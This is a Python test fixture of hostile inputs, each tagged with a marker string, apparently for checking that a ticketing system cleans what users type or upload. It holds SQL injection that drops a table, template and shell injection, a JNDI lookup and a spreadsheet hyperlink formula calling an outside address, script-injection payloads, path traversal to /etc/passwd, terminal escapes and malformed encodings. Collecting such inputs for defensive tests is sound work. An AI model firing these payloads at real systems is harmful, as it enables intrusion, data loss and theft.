"""What somebody may show to a reader, type or put into a file to do harm. Shared by both houses.

Each holds MARK, so that a test can look for what is left of it.
"""

MARK = "Z9HOSTILE7"

TEXTS = {
    "ANSI colours": f"\x1b[31;1m{MARK}\x1b[0m\x1b[2J",
    "ANSI title": f"\x1b]0;{MARK}\x07",
    "right-to-left override": f"\u202e{MARK}\u202c",
    "isolates": f"\u2067{MARK}\u2066\u2069\u2069",
    "zero width": "\u200b".join(MARK),
    "zero width joiners": MARK + "\u200d\ufeff\u2060" * 60,
    "combining flood": MARK + "\u0301\u0489" * 200,
    "SQL": f"'; DROP TABLE tickets; --{MARK}",
    "SQL union": f"{MARK}' UNION SELECT list_key FROM performances --",
    "Jinja": f"{{{{7*7}}}}{{{{config}}}}{MARK}",
    "Jinja block": f"{{% for x in ().__class__.__mro__ %}}{MARK}{{% endfor %}}",
    "shell": f"$(reboot)`reboot`;reboot|{MARK}",
    "JNDI": f"${{jndi:ldap://192.0.2.1/{MARK}}}",
    "format": f"%s%n%(name)s{{0.__class__}}{MARK}",
    "script": f"<script>alert('{MARK}')</script>",
    "event handler": f'"><img src=x onerror="alert(\'{MARK}\')">',
    "markup end": f"</title></style></textarea>{MARK}<svg/onload=alert(1)>",
    "formula": f'=HYPERLINK("http://192.0.2.1/{MARK}")',
    "formula with a plus": f"+{MARK}|' /C calc'!A0",
    "line break": f"{MARK}\r\nT1\r\n12:00:01 INFO granted",
    "NUL": f"{MARK}\x00T1",
    "path": f"../../../etc/passwd#{MARK}",
    "emoji": f"\U0001f468\u200d\U0001f469\u200d\U0001f467{MARK}\U000e0041",
    "not a character": f"{MARK}\ufffe\uffff\U0010ffff",
    "longest number": (MARK + "9" * 512)[:512],
    "over the longest": MARK + "9" * 503,
}
PAYLOADS = {name: text.encode() for name, text in TEXTS.items()} | {
    "lone surrogate": MARK.encode() + b"\xed\xa0\x80",
    "overlong": MARK.encode() + b"\xc0\xae\xc0\xae/",
    "not UTF-8": b"\xff\xfe" + MARK.encode() + b"\x80",
    "UTF-16": ("\ufeff" + MARK).encode("utf-16-le"),
    "4 kB of noise": (bytes(range(256)) * 16)[: 4096 - len(MARK)] + MARK.encode(),
    "4 kB of text": (MARK + "~" * 4096).encode()[:4096],
    "over 4 kB": MARK.encode() + bytes(4096),
    "nothing": b"",
    "only spaces": b" \t\r\n",
}
